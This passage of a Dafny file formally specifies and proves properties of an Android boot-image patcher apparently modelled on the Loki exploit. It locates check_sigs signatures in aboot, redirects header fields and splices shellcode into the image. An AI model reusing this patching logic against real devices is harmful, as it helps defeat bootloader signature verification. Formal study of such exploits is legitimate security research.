      [0x2d, 0xe9, 0xf0, 0x4f, 0xad, 0xf5, 0x21, 0x7d]
    }
  }

  /** ... or the pattern of the second pass. */
  predicate IsSecondSig(aboot: bytes, i: nat)
    requires i + 8 <= |aboot|
  {
    aboot[i..i + 8] == [0x2d, 0xe9, 0xf0, 0x4f, 0xf3, 0xb0, 0x05, 0x46]
  }

  predicate LeastFirstSig(aboot: bytes, i: nat) {
    i + 0x1000 < |aboot| && IsFirstSig(aboot, i) && forall j :: 0 <= j < i ==> !IsFirstSig(aboot, j)
  }

  predicate LeastSecondSig(aboot: bytes, i: nat) {
    i + 0x1000 < |aboot| && IsSecondSig(aboot, i) && forall j :: 0 <= j < i ==> !IsSecondSig(aboot, j)
  }

  /** The address of the i-th byte of a bootloader whose word at 12 is the load address plus 0x28. */
  function AddressIn(aboot: bytes, i: nat): u32
    requires |aboot| >= 16
  {
    Wrap32(i + Wrap32(U32At(aboot, 12) - 0x28))
  }

  /** The first of the five patterns decides, whatever else is there, unless its address is 0; else the sixth does. */
  ghost predicate IsCheckSigs(aboot: bytes, target: u32)
    requires |aboot| >= 0x1000
  {
    if exists i :: LeastFirstSig(aboot, i) && AddressIn(aboot, i) != 0
    then exists i :: LeastFirstSig(aboot, i) && target == AddressIn(aboot, i)
    else if exists i :: LeastSecondSig(aboot, i)
    then exists i :: LeastSecondSig(aboot, i) && target == AddressIn(aboot, i)
    else target == 0
  }

  lemma FirstPassLooksFor(aboot: bytes, i: nat)
    requires i + 8 <= |aboot|
    ensures FirstPassMatch(aboot, i) <==> IsFirstSig(aboot, i)
    ensures MatchesAt(aboot, i, PATTERN6) <==> IsSecondSig(aboot, i)
  {
  }

  /** The search yields that address, and no other satisfies the description. */
  lemma CheckSigsAreFound(aboot: bytes, target: u32)
    requires |aboot| >= 0x1000
    ensures IsCheckSigs(aboot, target) <==> target == FindCheckSigs(aboot)
  {
    hide IsFirstSig, IsSecondSig, FirstPassMatch, MatchesAt, U32At, Wrap32;
    var limit := |aboot| - 0x1000;
    var first, second := FirstPass(aboot, 0, limit), FindFirst(aboot, PATTERN6, 0, limit);
    forall i | 0 <= i < limit
      ensures FirstPassMatch(aboot, i) <==> IsFirstSig(aboot, i)
      ensures MatchesAt(aboot, i, PATTERN6) <==> IsSecondSig(aboot, i)
    {
      FirstPassLooksFor(aboot, i);
    }
    if first.Some? {
      LeastIsFirst(aboot, first.value);
      assert LeastFirstSig(aboot, first.value);
      assert AddressOf(first, AbootBase(aboot)) == AddressIn(aboot, first.value);
    } else {
      assert forall i :: !LeastFirstSig(aboot, i);
    }
    if second.Some? {
      LeastIsSecond(aboot, second.value);
      assert LeastSecondSig(aboot, second.value);
      assert AddressOf(second, AbootBase(aboot)) == AddressIn(aboot, second.value);
    } else {
      assert forall i :: !LeastSecondSig(aboot, i);
    }
  }

  lemma LeastIsFirst(aboot: bytes, i: nat)
    requires i + 0x1000 < |aboot| && IsFirstSig(aboot, i) && forall j :: 0 <= j < i ==> !IsFirstSig(aboot, j)
    ensures forall k :: LeastFirstSig(aboot, k) <==> k == i
  {
    hide IsFirstSig;
  }

  lemma LeastIsSecond(aboot: bytes, i: nat)
    requires i + 0x1000 < |aboot| && IsSecondSig(aboot, i) && forall j :: 0 <= j < i ==> !IsSecondSig(aboot, j)
    ensures forall k :: LeastSecondSig(aboot, k) <==> k == i
  {
    hide IsSecondSig;
  }

  // ---------------------------------------------------------------------------
  // The patched image
  // ---------------------------------------------------------------------------

  /** (n + 0xfff) & ~0xfff */
  function WholePages(n: nat): (r: nat)
    ensures n <= r < n + 0x1000
  {
    (n + 0xfff) / 0x1000 * 0x1000
  }

  /** (x + mask) & ~mask, the patcher's own way to round up to pages. */
  function Align(x: u32, pageSize: u32): u32 {
    var mask := Wrap32(pageSize - 1);
    And(Wrap32(x + mask), 0xffff_ffff - mask)
  }

  /** It agrees with the padding the image was created with. */
  lemma AlignIsPadding(x: u32, p: u32)
    requires ValidPageSize(p) && x + p < U32_LIMIT
    ensures Align(x, p) == x + SkipPadding(x, p)
  {
    hide And, SkipPadding;
    var y := x + (p - 1);
    AndNotPageMask(y, p);
    SkipPaddingReachesBoundary(x, p);
    var gap := Gap(x, p);
    assert Align(x, p) == y - y % p;
    RoundDownAfterMask(x, p);
  }

  lemma RoundDownAfterMask(x: nat, p: nat)
    requires p > 0
    ensures x + (p - 1) - (x + (p - 1)) % p == x + Gap(x, p)
  {
    var q, r := x / p, x % p;
    assert x == q * p + r;
    if r == 0 {
      DivModUnique(x + (p - 1), p, q, p - 1);
    } else {
      assert x + (p - 1) == (q + 1) * p + (r - 1);
      DivModUnique(x + (p - 1), p, q + 1, r - 1);
    }
  }

  function BuildBytes(build: string): bytes {
    seq(|build|, i requires 0 <= i < |build| => build[i] as int % 256)
  }

  /** Byte offset of a header word. */
  function WordAt(k: nat): nat {
    |BOOT_MAGIC| + 4 * k
  }

  function FakeSize(tgt: LokiTarget, pageSize: u32): u32 {
    if tgt.lg then pageSize else 0x200
  }

  /** check_sigs & 0xf */
  function SigOffset(tgt: LokiTarget): (r: nat)
    ensures r < 16
  {
    tgt.checkSigs % 16
  }

  /** The Loki header is written first, ... */
  function WithLokiHeader(data: bytes, tgt: LokiTarget): (r: bytes)
    requires |data| >= LOKI_HEADER_END
    ensures |r| == |data|
  {
    var h := ReadHeader(data, 0);
    var a := Overwrite(data, LOKI_HEADER, LOKI_MAGIC);
    var b := PutU32(a, LOKI_RECOVERY, 0);
    var c := Overwrite(b, LOKI_BUILD, Resize(BuildBytes(tgt.build), BUILD_SIZE - 1));
    var d := PutU32(c, LOKI_KERNEL_SIZE, h.words[KERNEL_SIZE]);
    var e := PutU32(d, LOKI_RAMDISK_SIZE, h.words[RAMDISK_SIZE]);
    PutU32(e, LOKI_RAMDISK_ADDR,
           Wrap32(h.words[KERNEL_ADDR] + Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE])))
  }

  /** ... then three words of the Android header are redirected. */
  function WithFakeSizes(data: bytes, h: Header, tgt: LokiTarget): (r: bytes)
    requires |data| >= LOKI_HEADER_END && ValidHeader(h)
    ensures |r| == |data|
  {
    var a := PutU32(data, WordAt(KERNEL_SIZE),
                    Wrap32(Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]) + h.words[RAMDISK_SIZE]));
    var b := PutU32(a, WordAt(RAMDISK_ADDR), tgt.checkSigs - SigOffset(tgt));
    PutU32(b, WordAt(RAMDISK_SIZE), if tgt.lg then h.words[PAGE_SIZE] else 0)
  }

  function PatchedHeader(data: bytes, tgt: LokiTarget): (r: bytes)
    requires |data| >= LOKI_HEADER_END
    ensures |r| == |data|
  {
    WithFakeSizes(WithLokiHeader(data, tgt), ReadHeader(data, 0), tgt)
  }

  lemma ResizeKeepsPrefix(s: bytes, n: nat)
    requires |s| <= n
    ensures Resize(s, n)[..|s|] == s
    ensures forall k :: 0 <= k <= |s| ==> Resize(s, n)[..k] == s[..k]
  {
  }

  /** The header only depends on the bytes it occupies. */
  lemma SameHeader(a: bytes, b: bytes)
    requires |a| >= HEADER_SIZE && |b| >= HEADER_SIZE && a[..HEADER_SIZE] == b[..HEADER_SIZE]
    ensures ReadHeader(a, 0) == ReadHeader(b, 0)
  {
    var n := HEADER_SIZE;
    assert forall i :: 0 <= i < n ==> a[i] == a[..n][i] == b[..n][i] == b[i];
    assert a[48..64] == b[48..64] && a[64..576] == b[64..576] && a[576..608] == b[576..608];
  }

  /** The known bootloader an aboot image contains, if any. */
  function TargetOf(aboot0: bytes): Option<LokiTarget> {
    if aboot0 == [] then None
    else FindTarget(Targets(), FindCheckSigs(Resize(aboot0, WholePages(|aboot0|))))
  }

  lemma {:induction false} FirstInTable(targets: seq<LokiTarget>, checkSigs: u32)
    ensures var r := FindTarget(targets, checkSigs);
            r.Some? ==> exists k :: 0 <= k < |targets| && targets[k] == r.value && forall j :: 0 <= j < k ==> targets[j].checkSigs != checkSigs
  {
    if targets != [] && targets[0].checkSigs != checkSigs {
      FirstInTable(targets[1..], checkSigs);
      var r := FindTarget(targets, checkSigs);
      if r.Some? {
        var k :| 0 <= k < |targets[1..]| && targets[1..][k] == r.value && forall j :: 0 <= j < k ==> targets[1..][j].checkSigs != checkSigs;
        assert targets[k + 1] == r.value;
        assert forall j :: 0 <= j < k + 1 ==> targets[j].checkSigs != checkSigs by {
          assert forall j :: 1 <= j < k + 1 ==> targets[j] == targets[1..][j - 1];
        }
      }
    }
  }

  /** The bootloader is the first table entry with the address that the patterns in the whole pages of aboot give. */
  lemma TargetIsNamed(aboot0: bytes, target: u32)
    requires aboot0 != []
    requires var n := (|aboot0| + 0xfff) / 0x1000 * 0x1000;
             n >= 0x1000 && n >= |aboot0| && IsCheckSigs(aboot0 + Zeros(n - |aboot0|), target)
    ensures var r := TargetOf(aboot0);
            if r.None? then forall t :: t in Targets() ==> t.checkSigs != target
            else r.value.checkSigs == target
                 && exists k :: 0 <= k < |Targets()| && Targets()[k] == r.value && forall j :: 0 <= j < k ==> Targets()[j].checkSigs != target
  {
    hide IsCheckSigs, FindCheckSigs, Targets, FindTarget;
    var n := (|aboot0| + 0xfff) / 0x1000 * 0x1000;
    assert aboot0 + Zeros(n - |aboot0|) == Resize(aboot0, WholePages(|aboot0|));
    CheckSigsAreFound(aboot0 + Zeros(n - |aboot0|), target);
    FirstInTable(Targets(), target);
  }

  datatype PatchStatus = PatchOk | PatchFailed | PatchUndefined
  datatype Patched = Patched(image: bytes) | Refused | WildCopy

  /** Where the spliced bootloader code starts inside aboot. */
  function SpliceStart(tgt: LokiTarget, base: u32): int {
    tgt.checkSigs - base - SigOffset(tgt)
  }

  function Joined(page: bytes, kernel: bytes, ramdisk: bytes, splice: bytes, dt: bytes): bytes {
    page + kernel + ramdisk + splice + dt
  }

  /** The bounds tests, in order; a sum that wraps may let a copy run past its buffer. */
  function SpliceStatus(dataSize: nat, abootSize: nat, h: Header, base: u32, tgt: LokiTarget): PatchStatus
    requires ValidHeader(h)
  {
    var p := h.words[PAGE_SIZE];
    var kernelEnd := p + Align(h.words[KERNEL_SIZE], p);
    var ramdiskEnd := kernelEnd + Align(h.words[RAMDISK_SIZE], p);
    var dtEnd := ramdiskEnd + h.words[DT_SIZE];
    var fake := FakeSize(tgt, p);
    var start := SpliceStart(tgt, base);
    if p > dataSize then PatchFailed
    else if Wrap32(kernelEnd) > dataSize then PatchFailed
    else if kernelEnd > dataSize then PatchUndefined
    else if Wrap32(ramdiskEnd) > dataSize then PatchFailed
    else if ramdiskEnd > dataSize then PatchUndefined
    else if Wrap32(start + fake) > abootSize then PatchFailed
    else if start < 0 || start + fake > abootSize then PatchUndefined
    else if h.words[DT_SIZE] != 0 && Wrap32(dtEnd) > dataSize then PatchFailed
    else if dtEnd > dataSize then PatchUndefined
    else PatchOk
  }

  /** Header page, kernel, ramdisk, bootloader code with the shellcode in it, device tree. */
  function SplicedImage(data: bytes, h: Header, aboot: bytes, base: u32, tgt: LokiTarget, patch: bytes): bytes
    requires ValidHeader(h) && ValidPageSize(h.words[PAGE_SIZE]) && |patch| == SHELLCODE_SIZE
    requires SpliceStatus(|data|, |aboot|, h, base, tgt) == PatchOk
  {
    var p := h.words[PAGE_SIZE];
    var kernelEnd := p + Align(h.words[KERNEL_SIZE], p);
    var ramdiskEnd := kernelEnd + Align(h.words[RAMDISK_SIZE], p);
    var dtEnd := ramdiskEnd + h.words[DT_SIZE];
    var start := SpliceStart(tgt, base);
    Joined(data[..p], data[p..kernelEnd], data[kernelEnd..ramdiskEnd],
           Overwrite(aboot[start..start + FakeSize(tgt, p)], SigOffset(tgt), patch), data[ramdiskEnd..dtEnd])
  }

  function Spliced(data: bytes, h: Header, aboot: bytes, base: u32, tgt: LokiTarget, patch: bytes): Patched
    requires ValidHeader(h) && ValidPageSize(h.words[PAGE_SIZE]) && |patch| == SHELLCODE_SIZE
  {
    match SpliceStatus(|data|, |aboot|, h, base, tgt)
    case PatchFailed => Refused
    case PatchUndefined => WildCopy
    case PatchOk => Patched(SplicedImage(data, h, aboot, base, tgt, patch))
  }

  function PatchedFor(data: bytes, aboot: bytes, base: u32, tgt: LokiTarget): Patched
    requires |data| >= LOKI_HEADER_END && ValidPageSize(ReadHeader(data, 0).words[PAGE_SIZE])
  {
    var h := ReadHeader(data, 0);
    var filled := Filled(tgt.hdr, h.words[RAMDISK_ADDR]);
    if filled.foundHeader && filled.foundRamdisk
    then Spliced(PatchedHeader(data, tgt), h, aboot, base, tgt, filled.patch)
    else Refused
  }

  /** patchImage as a function of both buffers. */
  function PatchedFrom(data0: bytes, aboot0: bytes): Patched
    requires |data0| >= HEADER_SIZE && ValidPageSize(ReadHeader(data0, 0).words[PAGE_SIZE])
  {
    if aboot0 == [] then Refused
    else
      var data := Resize(data0, WholePages(|data0| + 0x2000));
      SameHeader(data0, data);
      var aboot := Resize(aboot0, WholePages(|aboot0|));
      var target := FindCheckSigs(aboot);
      if target == 0 then Refused
      else
        match FindTarget(Targets(), target)
        case None => Refused
        case Some(tgt) => PatchedFor(data, aboot, AbootBase(aboot), tgt)
  }

  function PatchStatusOf(r: Patched): PatchStatus {
    match r
    case Patched(_) => PatchOk
    case Refused => PatchFailed
    case WildCopy => PatchUndefined
  }

  method LocateCheckSigs(aboot: bytes, abootBase: u32) returns (target: u32)
    requires |aboot| >= 0x1000 && abootBase == AbootBase(aboot)
    ensures target == FindCheckSigs(aboot) && IsCheckSigs(aboot, target)
  {
    hide MatchesAt, AbootBase, IsCheckSigs;
    CheckSigsAreFound(aboot, FindCheckSigs(aboot));
    target := 0;
    var limit := |aboot| - 0x1000;
    var i := 0;
    while i < limit
      invariant 0 <= i <= limit
      invariant FirstPass(aboot, i, limit) == FirstPass(aboot, 0, limit)
    {
      if MatchesAt(aboot, i, PATTERN1) || MatchesAt(aboot, i, PATTERN2) || MatchesAt(aboot, i, PATTERN3)
         || MatchesAt(aboot, i, PATTERN4) || MatchesAt(aboot, i, PATTERN5) {
        target := Wrap32(i + abootBase);
        break;
      }
      i := i + 1;
    }
    assert target == AddressOf(FirstPass(aboot, 0, limit), abootBase);
    if target == 0 {
      i := 0;
      while i < limit
        invariant 0 <= i <= limit && target == 0
        invariant FindFirst(aboot, PATTERN6, i, limit) == FindFirst(aboot, PATTERN6, 0, limit)
      {
        if MatchesAt(aboot, i, PATTERN6) {
          target := Wrap32(i + abootBase);
          break;
        }
        i := i + 1;
      }
      assert target == AddressOf(FindFirst(aboot, PATTERN6, 0, limit), abootBase);
    }
  }

  method LookUpTarget(target: u32) returns (tgt: Option<LokiTarget>)
    ensures tgt == FindTarget(Targets(), target)
  {
    hide Targets;
    var targets := Targets();
    tgt := None;
    for i := 0 to |targets|
      invariant tgt == None
      invariant FindTarget(targets, target) == FindTarget(targets[i..], target)
    {
      if targets[i].checkSigs == target {
        return Some(targets[i]);
      }
    }
  }

  /** memcpy into the region behind a prefix leaves the prefix and everything behind the region alone. */
  lemma OverwriteInside(pre: bytes, mid: bytes, post: bytes, at: nat, patch: bytes)
    requires at + |patch| <= |mid|
    ensures Overwrite(pre + mid + post, |pre| + at, patch) == pre + Overwrite(mid, at, patch) + post
  {
  }

  lemma WritesBehindHeader(data: bytes, at: nat, patch: bytes)
    requires HEADER_SIZE <= at && at + |patch| <= |data|
    ensures ReadHeader(Overwrite(data, at, patch), 0) == ReadHeader(data, 0)
  {
    hide ReadHeader;
    SameHeader(Overwrite(data, at, patch), data);
  }

  /** Writing the Loki header leaves the Android header alone. */
  lemma LokiHeaderIsBehindHeader(data: bytes, tgt: LokiTarget)
    requires |data| >= LOKI_HEADER_END
    ensures ReadHeader(WithLokiHeader(data, tgt), 0) == ReadHeader(data, 0)
  {
    hide ReadHeader, Overwrite, U32Bytes, Resize, BuildBytes, Align;
    var h := ReadHeader(data, 0);
    var a := Overwrite(data, LOKI_HEADER, LOKI_MAGIC);
    WritesBehindHeader(data, LOKI_HEADER, LOKI_MAGIC);
    var b := PutU32(a, LOKI_RECOVERY, 0);
    WritesBehindHeader(a, LOKI_RECOVERY, U32Bytes(0));
    var build := Resize(BuildBytes(tgt.build), BUILD_SIZE - 1);
    var c := Overwrite(b, LOKI_BUILD, build);
    WritesBehindHeader(b, LOKI_BUILD, build);
    var d := PutU32(c, LOKI_KERNEL_SIZE, h.words[KERNEL_SIZE]);
    WritesBehindHeader(c, LOKI_KERNEL_SIZE, U32Bytes(h.words[KERNEL_SIZE]));
    var e := PutU32(d, LOKI_RAMDISK_SIZE, h.words[RAMDISK_SIZE]);
    WritesBehindHeader(d, LOKI_RAMDISK_SIZE, U32Bytes(h.words[RAMDISK_SIZE]));
    WritesBehindHeader(e, LOKI_RAMDISK_ADDR,
                       U32Bytes(Wrap32(h.words[KERNEL_ADDR] + Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]))));
  }

  /** Storing one header word changes that word and no other field. */
  lemma PutHeaderWord(data: bytes, k: nat, x: u32)
    requires |data| >= HEADER_SIZE && k < WORD_COUNT
    ensures ReadHeader(PutU32(data, WordAt(k), x), 0) == var h := ReadHeader(data, 0); h.(words := h.words[k := x])
  {
    var d := PutU32(data, WordAt(k), x);
    var h := ReadHeader(data, 0);
    forall i | 0 <= i < WORD_COUNT
      ensures ReadHeader(d, 0).words[i] == h.words[k := x][i]
    {
      if i == k {
        ReadBackWord(data, WordAt(k), x);
      } else {
        ReadBeside(data, WordAt(k), x, WordAt(i));
      }
    }
    assert d[48..] == data[48..];
    assert d[48..64] == data[48..64] && d[64..576] == data[64..576] && d[576..608] == data[576..608];
  }

  method WriteLokiHeader(data: ByteVector, tgt: LokiTarget)
    requires |data.bytes| >= LOKI_HEADER_END
    modifies data
    ensures data.bytes == WithLokiHeader(old(data.bytes), tgt)
  {
    hide ReadHeader, PutU32, Align, Resize, BuildBytes, Overwrite, Wrap32;
    var hdr := ReadHeader(data.bytes, 0);
    data.bytes := Overwrite(data.bytes, LOKI_HEADER, LOKI_MAGIC);
    data.bytes := PutU32(data.bytes, LOKI_RECOVERY, 0);
    data.bytes := Overwrite(data.bytes, LOKI_BUILD, Resize(BuildBytes(tgt.build), BUILD_SIZE - 1));
    data.bytes := PutU32(data.bytes, LOKI_KERNEL_SIZE, hdr.words[KERNEL_SIZE]);
    data.bytes := PutU32(data.bytes, LOKI_RAMDISK_SIZE, hdr.words[RAMDISK_SIZE]);
    data.bytes := PutU32(data.bytes, LOKI_RAMDISK_ADDR,
                         Wrap32(hdr.words[KERNEL_ADDR] + Align(hdr.words[KERNEL_SIZE], hdr.words[PAGE_SIZE])));
  }

  method RedirectHeader(data: ByteVector, tgt: LokiTarget)
    requires |data.bytes| >= LOKI_HEADER_END
    modifies data
    ensures data.bytes == WithFakeSizes(old(data.bytes), ReadHeader(old(data.bytes), 0), tgt)
  {
    hide PutU32, Align;
    var hdr := ReadHeader(data.bytes, 0);
    var pageSize := hdr.words[PAGE_SIZE];
    data.bytes := PutU32(data.bytes, WordAt(KERNEL_SIZE),
                         Wrap32(Align(hdr.words[KERNEL_SIZE], pageSize) + hdr.words[RAMDISK_SIZE]));
    data.bytes := PutU32(data.bytes, WordAt(RAMDISK_ADDR), tgt.checkSigs - SigOffset(tgt));
    if tgt.lg {
      data.bytes := PutU32(data.bytes, WordAt(RAMDISK_SIZE), pageSize);
    } else {
      data.bytes := PutU32(data.bytes, WordAt(RAMDISK_SIZE), 0);
    }
  }

  /** The shellcode in a buffer of its own, with both words filled in. */
  method BuildShellcode(header: u32, ramdisk: u32) returns (ok: bool, patch: bytes)
    ensures var r := Filled(header, ramdisk);
            patch == r.patch && ok == (r.foundHeader && r.foundRamdisk)
  {
    hide ScanFrom, Shellcode;
    var code := Shellcode(HEADER_MARK, RAMDISK_MARK);
    var buffer := new byte[SHELLCODE_SIZE](i requires 0 <= i < SHELLCODE_SIZE => code[i]);
    assert buffer[..] == code;
    ok := PatchShellcode(header, ramdisk, buffer);
    patch := buffer[..];
  }

  /**
   The memcpy of the shellcode lands inside the spliced region: header page, kernel, ramdisk
   and device tree reach the output as they are.
   */
  method AssembleLoki(data: bytes, hdr: Header, aboot: bytes, abootBase: u32, tgt: LokiTarget, patch: bytes)
    returns (status: PatchStatus, newImage: bytes)
    requires ValidHeader(hdr) && ValidPageSize(hdr.words[PAGE_SIZE]) && |patch| == SHELLCODE_SIZE
    ensures status == SpliceStatus(|data|, |aboot|, hdr, abootBase, tgt)
    ensures status == PatchOk ==> newImage == SplicedImage(data, hdr, aboot, abootBase, tgt, patch)
  {
    hide Align, Overwrite, Wrap32, ValidPageSize, SigOffset, Joined;
    newImage := [];
    var pageSize := hdr.words[PAGE_SIZE];
    var offset := SigOffset(tgt);
    var fakeSize := if tgt.lg then pageSize else 0x200;
    var pageKernelSize := Align(hdr.words[KERNEL_SIZE], pageSize);
    var pageRamdiskSize := Align(hdr.words[RAMDISK_SIZE], pageSize);
    var dtSize := hdr.words[DT_SIZE];
    if pageSize > |data| {
      return PatchFailed, [];
    }
    newImage := newImage + data[..pageSize];
    status, newImage := AppendRange(newImage, data, pageSize, pageSize + pageKernelSize);
    if status != PatchOk {
      return;
    }
    status, newImage := AppendRange(newImage, data, pageSize + pageKernelSize, pageSize + pageKernelSize + pageRamdiskSize);
    if status != PatchOk {
      return;
    }
    var start := tgt.checkSigs - abootBase - offset;
    if Wrap32(start + fakeSize) > |aboot| {
      return PatchFailed, [];
    }
    if start < 0 || start + fakeSize > |aboot| {
      return PatchUndefined, [];
    }
    assert fakeSize >= 0x200 by { FakeSizeHoldsShellcode(tgt, pageSize); }
    ghost var pre := newImage;
    ghost var mid := aboot[start..start + fakeSize];
    newImage := newImage + aboot[start..start + fakeSize];
    var pos := |newImage|;
    ghost var ramdiskEnd := pageSize + pageKernelSize + pageRamdiskSize;
    ghost var post := if dtSize == 0 || ramdiskEnd + dtSize > |data| then [] else data[ramdiskEnd..ramdiskEnd + dtSize];
    if dtSize != 0 {
      status, newImage := AppendRange(newImage, data, pageSize + pageKernelSize + pageRamdiskSize,
                                      pageSize + pageKernelSize + pageRamdiskSize + dtSize);
      if status != PatchOk {
        return;
      }
    }
    assert newImage == pre + mid + post;
    newImage := Overwrite(newImage, pos - (fakeSize - offset), patch);
    OverwriteInside(pre, mid, post, offset, patch);
    ghost var kernelEnd := pageSize + pageKernelSize;
    ghost var page, kernel, ramdisk := data[..pageSize], data[pageSize..kernelEnd], data[kernelEnd..ramdiskEnd];
    JoinedAround(page, kernel, ramdisk, Overwrite(mid, offset, patch), post);
    status := PatchOk;
  }

  lemma JoinedAround(page: bytes, kernel: bytes, ramdisk: bytes, splice: bytes, dt: bytes)
    ensures Joined(page, kernel, ramdisk, splice, dt) == (([] + page) + kernel + ramdisk) + splice + dt
  {
  }

  /** The shellcode fits behind any offset below 16. */
  lemma FakeSizeHoldsShellcode(tgt: LokiTarget, pageSize: u32)
    requires ValidPageSize(pageSize)
    ensures FakeSize(tgt, pageSize) >= 0x200
  {
  }

  /** The bounds test before a range of the image is copied, with its 32-bit sum, and the copy. */
  method AppendRange(image: bytes, data: bytes, from: nat, to: nat) returns (status: PatchStatus, r: bytes)
    requires from <= to
    ensures status == if Wrap32(to) > |data| then PatchFailed else if to > |data| then PatchUndefined else PatchOk
    ensures status == PatchOk ==> r == image + data[from..to]
  {
    hide Wrap32;
    if Wrap32(to) > |data| {
      return PatchFailed, [];
    }
    if to > |data| {
      return PatchUndefined, [];
    }
    return PatchOk, image + data[from..to];
  }

  method PatchImage(data: ByteVector, aboot0: bytes) returns (status: PatchStatus)
    requires |data.bytes| >= HEADER_SIZE && ValidPageSize(ReadHeader(data.bytes, 0).words[PAGE_SIZE])
    modifies data
    ensures status == PatchStatusOf(PatchedFrom(old(data.bytes), aboot0))
    ensures status == PatchOk ==> data.bytes == PatchedFrom(old(data.bytes), aboot0).image
  {
    hide ReadHeader, FindCheckSigs, Targets, FindTarget, Resize, SplicedImage, SpliceStatus, WithLokiHeader, WithFakeSizes, Filled, ValidPageSize;
    if aboot0 == [] {
      return PatchFailed;
    }
    ghost var result := PatchedFrom(data.bytes, aboot0);
    assert Resize(data.bytes, WholePages(|data.bytes| + 0x2000))[..HEADER_SIZE] == data.bytes[..HEADER_SIZE] by {
      ResizeKeepsPrefix(data.bytes, WholePages(|data.bytes| + 0x2000));
    }
    SameHeader(data.bytes, Resize(data.bytes, WholePages(|data.bytes| + 0x2000)));
    data.bytes := Resize(data.bytes, WholePages(|data.bytes| + 0x2000));
    var aboot := Resize(aboot0, WholePages(|aboot0|));

    var abootBase := Wrap32(U32At(aboot, 12) - 0x28);
    var target := LocateCheckSigs(aboot, abootBase);
    if target == 0 {
      return PatchFailed;
    }
    var found := LookUpTarget(target);
    if found == None {
      return PatchFailed;
    }
    var tgt := found.value;
    ghost var data1 := data.bytes;
    assert result == PatchedFor(data1, aboot, abootBase, tgt);

    WriteLokiHeader(data, tgt);
    LokiHeaderIsBehindHeader(data1, tgt);
    var hdr := ReadHeader(data.bytes, 0);
    var ok, patch := BuildShellcode(tgt.hdr, hdr.words[RAMDISK_ADDR]);
    if !ok {
      return PatchFailed;
    }
    RedirectHeader(data, tgt);
    assert data.bytes == PatchedHeader(data1, tgt);
    var newImage;
    status, newImage := AssembleLoki(data.bytes, hdr, aboot, abootBase, tgt, patch);
    if status == PatchOk {
      data.bytes := newImage;
    }
  }

  // ---------------------------------------------------------------------------
  // What the patched image holds
  // ---------------------------------------------------------------------------

  const VIPER := 0x4010fe18

  /** The loader's guess at the size of the spliced region, made from the redirected ramdisk address. */
  function GuessedFakeSize(ramdiskAddr: u32, pageSize: u32): u32 {
    if ramdiskAddr > 0x88f0_0000 || ramdiskAddr < 0xfa0_0000 then pageSize else 0x200
  }

  predicate TargetAgrees(t: LokiTarget) {
    && t.hdr / 0x100_0000 != 0xee
    && t.checkSigs >= 16
    && (t.lg == (t.checkSigs - SigOffset(t) > 0x88f0_0000 || t.checkSigs - SigOffset(t) < 0xfa0_0000)
        <==> t.checkSigs != VIPER)
  }

  lemma TargetsAgree0(t: LokiTarget)
    requires t in Targets0()
    ensures TargetAgrees(t)
  {
  }

  lemma TargetsAgree1(t: LokiTarget)
    requires t in Targets1()
    ensures TargetAgrees(t)
  {
  }

  lemma TargetsAgree2(t: LokiTarget)
    requires t in Targets2()
    ensures TargetAgrees(t)
  {
  }

  lemma TargetsAgree3(t: LokiTarget)
    requires t in Targets3()
    ensures TargetAgrees(t)
  {
  }

  /** The loader guesses the patcher's fake size for every known bootloader but the LG Viper's. */
  lemma GuessIsRightButForViper(t: LokiTarget, p: u32)
    requires t in Targets() && ValidPageSize(p)
    ensures t.checkSigs >= 16
    ensures GuessedFakeSize(t.checkSigs - SigOffset(t), p) == FakeSize(t, p) <==> t.checkSigs != VIPER
    ensures t.checkSigs == VIPER ==> GuessedFakeSize(t.checkSigs - SigOffset(t), p) == 0x200 && FakeSize(t, p) == p
  {
    hide Targets0, Targets1, Targets2, Targets3;
    AllTargetsAgree(t);
    assert t.checkSigs == VIPER ==> t.checkSigs - SigOffset(t) == 0x4010fe10;
  }

  lemma AllTargetsAgree(t: LokiTarget)
    requires t in Targets()
    ensures TargetAgrees(t)
  {
    hide Targets0, Targets1, Targets2, Targets3, TargetAgrees;
    if t in Targets0() {
      TargetsAgree0(t);
    } else if t in Targets1() {
      TargetsAgree1(t);
    } else if t in Targets2() {
      TargetsAgree2(t);
    } else {
      TargetsAgree3(t);
    }
  }

  /** For a known bootloader patchShellcode changes bytes 56 to 63 and nothing else. */
  lemma ShellcodeForTarget(t: LokiTarget, ramdisk: u32)
    requires t in Targets()
    ensures Filled(t.hdr, ramdisk) == Scan(Shellcode(t.hdr, ramdisk), true, true)
    ensures var before := Shellcode(HEADER_MARK, RAMDISK_MARK);
            var after := Filled(t.hdr, ramdisk).patch;
            && after[..56] == before[..56] && after[64..] == before[64..]
            && U32At(after, 56) == t.hdr && U32At(after, 60) == ramdisk
  {
    hide Targets, Filled, ShellcodePrefix, U32Bytes;
    AllTargetsAgree(t);
    FilledWhenDistinct(t.hdr, ramdisk);
    var after := Shellcode(t.hdr, ramdisk);
    U32RoundTrip(t.hdr);
    U32RoundTrip(ramdisk);
    assert after[56..60] == U32Bytes(t.hdr)[0..4] && after[60..64] == U32Bytes(ramdisk)[0..4];
    U32AtSlice(after, 56, U32Bytes(t.hdr), 0);
    U32AtSlice(after, 60, U32Bytes(ramdisk), 0);
  }

  /** The words of the header page after patching, and the Loki magic. */
  predicate PatchedWords(d: bytes, h: Header, tgt: LokiTarget)
    requires |d| >= LOKI_HEADER_END && ValidHeader(h)
  {
    && ReadHeader(d, 0) == h.(words := h.words
                                [KERNEL_SIZE := Wrap32(Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]) + h.words[RAMDISK_SIZE])]
                                [RAMDISK_ADDR := tgt.checkSigs - SigOffset(tgt)]
                                [RAMDISK_SIZE := if tgt.lg then h.words[PAGE_SIZE] else 0])
    && d[LOKI_HEADER..LOKI_HEADER + 4] == LOKI_MAGIC
    && U32At(d, LOKI_KERNEL_SIZE) == h.words[KERNEL_SIZE]
    && U32At(d, LOKI_RAMDISK_SIZE) == h.words[RAMDISK_SIZE]
    && U32At(d, LOKI_RAMDISK_ADDR) == Wrap32(h.words[KERNEL_ADDR] + Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]))
  }

  lemma LokiHeaderWords(data: bytes, tgt: LokiTarget)
    requires |data| >= LOKI_HEADER_END
    ensures var h := ReadHeader(data, 0);
            var d := WithLokiHeader(data, tgt);
            && d[LOKI_HEADER..LOKI_HEADER + 4] == LOKI_MAGIC
            && U32At(d, LOKI_KERNEL_SIZE) == h.words[KERNEL_SIZE]
